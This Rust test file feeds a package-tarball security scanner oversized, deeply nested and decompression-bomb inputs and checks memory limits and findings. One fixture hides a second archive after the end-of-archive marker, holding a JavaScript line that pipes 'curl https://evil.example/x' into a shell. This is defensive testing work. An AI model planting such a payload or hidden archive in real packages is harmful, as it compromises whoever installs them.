//! Inputs built to exhaust the scanner itself, each scanned in a child process whose
//! peak resident memory (`VmHWM`, reset with `/proc/self/clear_refs` once the input is
//! built, so only the scan counts) must stay under [`MEMORY_BUDGET_BYTES`], and each
//! scan must end with the finding (or verdict) that says what the input did. The
//! child runs under an address-space limit, so a regression dies there instead of
//! taking the machine's memory.
//!
//! The small cases are committed under `test_data/limits/`; the large ones (megabytes
//! of nesting, a 50 MB line, 100 000 files, a 1.2 GiB decompression bomb, data after
//! the end-of-archive marker) are generated in the child, at test time.
//!
//! Time is measured and printed but asserted only loosely ([`TIME_LIMIT`]): this runs
//! unoptimised on a shared machine. The release-build numbers are in
//! `test_data/limits/README.md`.

use std::io::{Read, Write as _};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use airlock_scanner::{ScanOptions, ScanReport, Severity, Verdict, scan_tarball};

/// The most resident memory one scan may reach (issue 10's target for `airlock scan`).
const MEMORY_BUDGET_BYTES: u64 = 256 * 1024 * 1024;
/// The child's address-space limit: far above the budget (the binary, thread stacks
/// and allocator arenas are reserved, not resident), far below the machine.
const CHILD_ADDRESS_SPACE_KIB: u64 = 4 * 1024 * 1024;
/// A bound loose enough never to flake on a loaded machine in a debug build, tight
/// enough to catch a scan that no longer terminates in reasonable time.
const TIME_LIMIT: Duration = Duration::from_secs(120);
/// Names the case the child process scans.
const CASE_VARIABLE: &str = "AIRLOCK_RESOURCE_CASE";
/// Starts the child's result line on stdout.
const RESULT_PREFIX: &str = "resource-result ";

/// What a case must end with.
enum Expected {
    /// Scanned, with a finding of this rule at or above this severity.
    Finding(&'static str, Severity),
    /// Scanned with exactly this many files and nothing at high or above.
    ScannedFiles(u64),
    /// Unscannable, with this in the reason.
    Unscannable(&'static str),
}

/// A registry-style `.tgz` of `files` (`package/…`), streamed: a file's contents come
/// from a reader, so a 100 MiB file never exists in memory. `after_end` is appended
/// to the tar stream after its end-of-archive marker, inside the gzip stream.
fn tarball(files: Vec<(String, u64, Box<dyn Read>)>, after_end: Option<Box<dyn Read>>) -> Vec<u8> {
    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(encoder);
    for (path, size, contents) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(size);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, format!("package/{path}"), contents).unwrap();
    }
    let mut encoder = builder.into_inner().unwrap();
    if let Some(mut trailing) = after_end {
        std::io::copy(&mut trailing, &mut encoder).unwrap();
    }
    encoder.finish().unwrap()
}

fn text_file(path: &str, text: String) -> (String, u64, Box<dyn Read>) {
    (path.to_owned(), text.len() as u64, Box::new(std::io::Cursor::new(text.into_bytes())))
}

fn manifest(name: &str) -> (String, u64, Box<dyn Read>) {
    text_file("package.json", format!(r#"{{"name":"{name}","version":"1.0.0","main":"index.js"}}"#))
}

fn one_file_package(name: &str, index_js: String) -> Vec<u8> {
    tarball(vec![manifest(name), text_file("index.js", index_js)], None)
}

/// The committed cases under `test_data/limits/`, as tarballs.
fn committed_case(name: &str) -> Vec<u8> {
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("test_data/limits").join(name);
    let mut files = Vec::new();
    for entry in std::fs::read_dir(&directory).unwrap() {
        let path = entry.unwrap().path();
        let relative = path.file_name().unwrap().to_string_lossy().into_owned();
        files.push(text_file(&relative, std::fs::read_to_string(&path).unwrap()));
    }
    tarball(files, None)
}

/// Builds a case's tarball.
type Builder = Box<dyn Fn() -> Vec<u8>>;

fn cases() -> Vec<(&'static str, Builder, Expected)> {
    const MIB: u64 = 1024 * 1024;
    vec![
        // Issue 10's 937-byte file and its cousins: each doubles what a naive tracker
        // keeps per line, forty times.
        (
            "doubling-url-constants",
            Box::new(|| committed_case("doubling-url-constants")),
            Expected::Finding("analysis-limit-reached", Severity::Medium),
        ),
        (
            "concatenation-chain",
            Box::new(|| committed_case("concatenation-chain")),
            Expected::Finding("analysis-limit-reached", Severity::Medium),
        ),
        (
            "array-spread-doubling",
            Box::new(|| committed_case("array-spread-doubling")),
            Expected::Finding("network-exfil-service", Severity::High),
        ),
        (
            "nested-template-doubling",
            Box::new(|| committed_case("nested-template-doubling")),
            Expected::Finding("analysis-limit-reached", Severity::Medium),
        ),
        // Recursion: each level is a parser and AST-walk stack frame, so these once
        // overflowed the stack and aborted the process.
        (
            "deep-parentheses",
            Box::new(|| {
                one_file_package("deep-parentheses", format!("x = {}1{};\n", "(".repeat(100_000), ")".repeat(100_000)))
            }),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        (
            "deep-arrays",
            Box::new(|| {
                one_file_package("deep-arrays", format!("x = {}{};\n", "[".repeat(100_000), "]".repeat(100_000)))
            }),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        (
            "deep-templates",
            Box::new(|| {
                one_file_package("deep-templates", format!("x = {}1{};\n", "`${".repeat(50_000), "}`".repeat(50_000)))
            }),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        (
            "long-operator-chain",
            Box::new(|| one_file_package("long-operator-chain", format!("x = 1{};\n", "+1".repeat(100_000)))),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        (
            "long-call-chain",
            Box::new(|| one_file_package("long-call-chain", format!("f{};\n", "()".repeat(100_000)))),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        // Just under the nesting limit: parsed and walked, on the analysis stack,
        // although this test's thread has 2 MiB.
        (
            "nesting-under-the-limit",
            Box::new(|| {
                one_file_package(
                    "nesting-under-the-limit",
                    format!("x = {}1{};\n", "(".repeat(19_000), ")".repeat(19_000)),
                )
            }),
            Expected::ScannedFiles(2),
        ),
        (
            "call-chain-under-the-limit",
            Box::new(|| one_file_package("call-chain-under-the-limit", format!("f{};\n", "()".repeat(19_000)))),
            Expected::ScannedFiles(2),
        ),
        (
            "long-else-if-chain",
            Box::new(|| one_file_package("long-else-if-chain", format!("{}{{}}\n", "if (a) {} else ".repeat(100_000)))),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        // Breadth: 300 000 properties, each a URL (13 MB), past the per-file URL cap.
        (
            "huge-object-literal",
            Box::new(|| {
                let mut source = String::from("module.exports = {\n");
                for index in 0..300_000 {
                    source.push_str(&format!("  k{index}: 'https://h{index}.example.com/p{index}',\n"));
                }
                source.push_str("};\n");
                one_file_package("huge-object-literal", source)
            }),
            Expected::Finding("analysis-limit-reached", Severity::Medium),
        ),
        // A 50 MB minified line: past the parse limit, reported instead of parsed.
        (
            "long-minified-line",
            Box::new(|| one_file_package("long-minified-line", "var a=1;".repeat(50 * 1024 * 1024 / 8))),
            Expected::Finding("file-not-analysed", Severity::High),
        ),
        // 100 000 small files.
        (
            "many-small-files",
            Box::new(|| {
                let mut files = vec![manifest("many-small-files")];
                for index in 0..100_000 {
                    files.push(text_file(&format!("lib/m{index}.js"), format!("module.exports = {index};\n")));
                }
                tarball(files, None)
            }),
            Expected::ScannedFiles(100_001),
        ),
        // 12 files of 100 MiB of zeros: 1.2 GiB from a few megabytes.
        (
            "decompression-bomb",
            Box::new(|| {
                let mut files = vec![manifest("decompression-bomb")];
                for index in 0..12 {
                    let zeros: Box<dyn Read> = Box::new(std::io::repeat(0).take(100 * MIB));
                    files.push((format!("data/zeros-{index}.bin"), 100 * MIB, zeros));
                }
                tarball(files, None)
            }),
            Expected::Unscannable("decompression bomb"),
        ),
        // Zeros after the end-of-archive marker: clients inflate them all.
        (
            "zeros-after-end-of-archive",
            Box::new(|| {
                tarball(
                    vec![manifest("zeros-after-end-of-archive"), text_file("index.js", "module.exports = 1;\n".into())],
                    Some(Box::new(std::io::repeat(0).take(512 * MIB))),
                )
            }),
            Expected::Finding("tar-trailing-data", Severity::High),
        ),
        // A whole second archive after the marker: extractors that read past a single
        // zero block install it.
        (
            "archive-after-end-of-archive",
            Box::new(|| {
                let hidden = {
                    let mut builder = tar::Builder::new(Vec::new());
                    let payload = b"require('child_process').exec('curl https://evil.example/x | sh');\n";
                    let mut header = tar::Header::new_gnu();
                    header.set_size(payload.len() as u64);
                    header.set_mode(0o644);
                    header.set_cksum();
                    builder.append_data(&mut header, "package/hidden.js", &payload[..]).unwrap();
                    builder.into_inner().unwrap()
                };
                tarball(
                    vec![
                        manifest("archive-after-end-of-archive"),
                        text_file("index.js", "module.exports = 1;\n".into()),
                    ],
                    Some(Box::new(std::io::Cursor::new(hidden))),
                )
            }),
            Expected::Finding("tar-trailing-data", Severity::High),
        ),
    ]
}

/// Peak resident memory since the last reset, from `/proc/self/status`.
fn peak_resident_bytes() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
    let kib: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kib * 1024
}

/// The child's half: build the case named in [`CASE_VARIABLE`], reset the peak, scan,
/// print the measurements. Does nothing in a normal test run.
#[test]
fn resource_case_child() {
    let Ok(name) = std::env::var(CASE_VARIABLE) else { return };
    let (_, build, _) = cases().into_iter().find(|(case, _, _)| *case == name).unwrap();
    let input = build();
    drop(build);
    // "5" resets VmHWM to the current RSS: the input is counted, building it is not.
    std::fs::write("/proc/self/clear_refs", "5").unwrap();
    let started = Instant::now();
    let report = scan_tarball(&input, None, &ScanOptions::default());
    let elapsed = started.elapsed();
    let peak = peak_resident_bytes();
    let line = serde_json::json!({
        "compressed_bytes": input.len(),
        "peak_resident_bytes": peak,
        "seconds": elapsed.as_secs_f64(),
        "report": report,
    });
    writeln!(std::io::stdout(), "{RESULT_PREFIX}{line}").unwrap();
}

#[test]
fn every_resource_attack_stays_within_budget_and_is_reported() {
    if std::env::var(CASE_VARIABLE).is_ok() {
        return;
    }
    let test_binary = std::env::current_exe().unwrap();
    let mut failures = Vec::new();
    for (name, _, expected) in cases() {
        let output = Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("ulimit -v {CHILD_ADDRESS_SPACE_KIB} && exec \"$0\" --exact resource_case_child --nocapture --test-threads 1"))
            .arg(&test_binary)
            .env(CASE_VARIABLE, name)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout);
        let Some(result) = stdout.lines().find_map(|line| line.split_once(RESULT_PREFIX).map(|(_, result)| result))
        else {
            failures.push(format!(
                "{name}: the child died ({}):\n{}",
                output.status,
                String::from_utf8_lossy(&output.stderr).lines().rev().take(5).collect::<Vec<_>>().join("\n")
            ));
            continue;
        };
        let result: serde_json::Value = serde_json::from_str(result).unwrap();
        let report: ScanReport = serde_json::from_value(result["report"].clone()).unwrap();
        let peak = result["peak_resident_bytes"].as_u64().unwrap();
        let seconds = result["seconds"].as_f64().unwrap();
        eprintln!(
            "{name}: {} compressed bytes, peak RSS {:.1} MiB, {seconds:.2} s (debug build), verdict {:?}, findings {:?}",
            result["compressed_bytes"],
            peak as f64 / (1024.0 * 1024.0),
            report.verdict,
            report.findings.iter().map(|finding| (&finding.rule, finding.severity)).collect::<Vec<_>>(),
        );
        if peak >= MEMORY_BUDGET_BYTES {
            failures.push(format!("{name}: peak RSS {peak} bytes, budget {MEMORY_BUDGET_BYTES}"));
        }
        if Duration::from_secs_f64(seconds) >= TIME_LIMIT {
            failures.push(format!("{name}: took {seconds} s"));
        }
        let has = |rule: &str, severity: Severity| {
            report.findings.iter().any(|finding| finding.rule == rule && finding.severity >= severity)
        };
        match expected {
            Expected::Finding(rule, severity) => {
                if !matches!(report.verdict, Verdict::Scanned) || !has(rule, severity) {
                    failures.push(format!("{name}: expected {rule} at {severity:?} or above, got {report:?}"));
                }
            }
            Expected::ScannedFiles(files) => {
                let scanned = report.summary.as_ref().map(|summary| summary.files);
                if !matches!(report.verdict, Verdict::Scanned)
                    || scanned != Some(files)
                    || report.holds_at(Severity::High)
                {
                    failures.push(format!("{name}: expected {files} files scanned and not held, got {report:?}"));
                }
            }
            Expected::Unscannable(reason_part) => {
                let reason = match &report.verdict {
                    Verdict::Unscannable { reason } => reason.as_str(),
                    Verdict::Scanned => "",
                };
                if !reason.contains(reason_part) {
                    failures.push(format!("{name}: expected unscannable ({reason_part}), got {:?}", report.verdict));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// A real trailing record padding (GNU tar pads archives to 10 KiB) is not data.
#[test]
fn record_padding_after_the_end_of_archive_is_not_reported() {
    let padded = tarball(
        vec![manifest("padded"), text_file("index.js", "module.exports = 1;\n".into())],
        Some(Box::new(std::io::repeat(0).take(9 * 1024))),
    );
    let report = scan_tarball(&padded, None, &ScanOptions::default());
    assert!(matches!(report.verdict, Verdict::Scanned), "{report:?}");
    assert!(!report.findings.iter().any(|finding| finding.rule == "tar-trailing-data"), "{report:?}");
}

/// A file longer than any check reads is kept as its first bytes only, hashed whole.
#[test]
fn a_large_data_file_is_hashed_in_full_and_kept_in_part() {
    let big = 40 * 1024 * 1024;
    let input = tarball(
        vec![manifest("large-data"), ("data.bin".to_owned(), big, Box::new(std::io::repeat(7).take(big)))],
        None,
    );
    let files = airlock_scanner::read_tarball(&input, &ScanOptions::default()).unwrap();
    let data = files.get("data.bin").unwrap();
    assert_eq!(data.size, big);
    assert!(!data.is_complete());
    assert!((data.bytes.len() as u64) < big);
    assert!(files.retained_bytes() < 2 * 1024 * 1024);
    use sha2::Digest as _;
    let expected: [u8; 32] = sha2::Sha256::digest(vec![7u8; big as usize]).into();
    assert_eq!(data.sha256, expected);
    assert_eq!(files.total_bytes(), big + files.get("package.json").unwrap().size);
}
